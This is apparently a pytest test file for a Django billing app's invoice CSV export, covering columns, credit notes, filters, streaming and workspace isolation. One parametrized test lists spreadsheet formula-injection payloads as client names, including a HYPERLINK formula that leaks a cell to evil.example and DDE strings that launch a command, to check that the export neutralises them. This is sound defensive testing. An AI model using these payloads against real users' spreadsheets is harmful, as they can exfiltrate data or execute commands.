"""The invoices CSV: what it holds, that it follows the page's filters, streams, and is safe to open."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal as D
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.http import StreamingHttpResponse
from django.urls import reverse

from billing import services
from billing.csv_export import HEADER, safe_text
from tests import factories

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def frozen_time():
    with time_machine.travel(datetime(2026, 3, 10, 12, 0, tzinfo=ZoneInfo("UTC")), tick=False):
        yield


def export_url(workspace) -> str:
    return reverse("billing:invoice_export", kwargs={"workspace_slug": workspace.slug})


def export(browser, workspace, **query: str) -> list[list[str]]:
    response = browser.get(export_url(workspace), query)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def manual_invoice(client, amount_minor: int, *, issue: bool = True):
    invoice = services.create_invoice(client=client, lines=[("Work", D("1"), amount_minor)])
    return services.issue_invoice(invoice=invoice, actor=None) if issue else invoice


@pytest.fixture
def acme(workspace):
    return factories.ClientFactory(workspace=workspace, name="Acme Corp")


def test_export_has_a_header_and_one_row_per_invoice_as_decimal_strings(owner_client, workspace, acme):
    profile = services.profile_for(workspace)
    profile.tax_rate_bp = 2000
    profile.save()
    factories.make_retainer(workspace=workspace, client=acme, price_minor=150000)
    [overdue_id] = services.bill_workspace(workspace_id=workspace.pk, as_of=date(2026, 1, 1)).invoices
    paid = manual_invoice(acme, 12345)
    services.record_payment(invoice=paid, amount_minor=paid.total_minor, method="bank_transfer")
    draft = manual_invoice(acme, 999, issue=False)

    rows = export(owner_client, workspace)
    assert rows[0] == HEADER == [
        "number", "client", "status", "issued", "due", "currency", "subtotal", "tax", "total", "paid", "balance",
    ]  # fmt: skip
    by_number = {row[0]: row for row in rows[1:]}
    assert len(rows) == 4
    assert by_number["2026-0001"] == [
        "2026-0001", "Acme Corp", "overdue", "2026-01-01", "2026-01-15", "GBP",
        "1500.00", "300.00", "1800.00", "0.00", "1800.00",
    ]  # fmt: skip
    assert by_number["2026-0002"] == [
        "2026-0002", "Acme Corp", "paid", "2026-03-10", "2026-03-24", "GBP",
        "123.45", "24.69", "148.14", "148.14", "0.00",
    ]  # fmt: skip
    assert by_number[""][2:6] == ["draft", "", "", "GBP"]  # a draft: no number, no dates, owes nothing yet
    assert by_number[""][-1] == "0.00"
    assert overdue_id and draft.pk


def test_credit_notes_are_negative_and_owe_nothing(owner_client, workspace, acme):
    invoice = manual_invoice(acme, 50000)
    services.create_credit_note(invoice=invoice, amount_minor=12000, reason="Discount", actor=None)
    rows = {row[0]: row for row in export(owner_client, workspace)[1:]}
    assert rows["2026-0002"][2] == "credit_note"
    assert rows["2026-0002"][6:] == ["-120.00", "0.00", "-120.00", "0.00", "0.00"]  # numbers, not quoted
    assert rows["2026-0001"][-1] == "380.00"


def test_amounts_use_the_currencys_own_decimals(owner_client, workspace, acme):
    factories.make_retainer(workspace=workspace, client=acme, currency="JPY", price_minor=150000)
    services.bill_workspace(workspace_id=workspace.pk, as_of=date(2026, 1, 1))
    [row] = export(owner_client, workspace)[1:]
    assert row[5:9] == ["JPY", "150000", "0", "150000"]


def test_export_follows_the_filters(owner_client, workspace, acme):
    other = factories.ClientFactory(workspace=workspace, name="Globex")
    manual_invoice(acme, 100)
    manual_invoice(other, 200)
    manual_invoice(other, 300, issue=False)
    rows = export(owner_client, workspace, client=str(other.pk), status="open")
    assert [row[1] for row in rows[1:]] == ["Globex"]
    assert [row[0] for row in export(owner_client, workspace, q="Globex")[1:]] == ["", "2026-0002"]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_client_name_that_looks_like_a_formula_is_written_as_text(owner_client, workspace, name):
    client = factories.ClientFactory(workspace=workspace, name=name)
    manual_invoice(client, 100)
    response = owner_client.get(export_url(workspace))
    [row] = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))[1:]
    assert row[1] == "'" + name
    assert row[0] == "2026-0001" and row[8] == "1.00"  # our own values are left as they are


def test_safe_text_leaves_ordinary_text_alone():
    assert safe_text("Acme = good") == "Acme = good"
    assert safe_text("O'Brien & Co") == "O'Brien & Co"
    assert safe_text("") == ""
    assert safe_text("=1") == "'=1"


def test_export_is_a_streamed_attachment(owner_client, workspace, acme):
    manual_invoice(acme, 100)
    response = owner_client.get(export_url(workspace))
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="invoices-{workspace.slug}-2026-03-10.csv"'


def test_export_holds_only_the_workspaces_own_invoices(owner_client, outsider_client, workspace, other_workspace, acme):
    manual_invoice(acme, 100)
    manual_invoice(factories.ClientFactory(workspace=other_workspace, name="Initech"), 100)
    assert [row[1] for row in export(owner_client, workspace)[1:]] == ["Acme Corp"]
    assert outsider_client.get(export_url(workspace)).status_code == 404
    assert owner_client.get(export_url(other_workspace)).status_code == 404
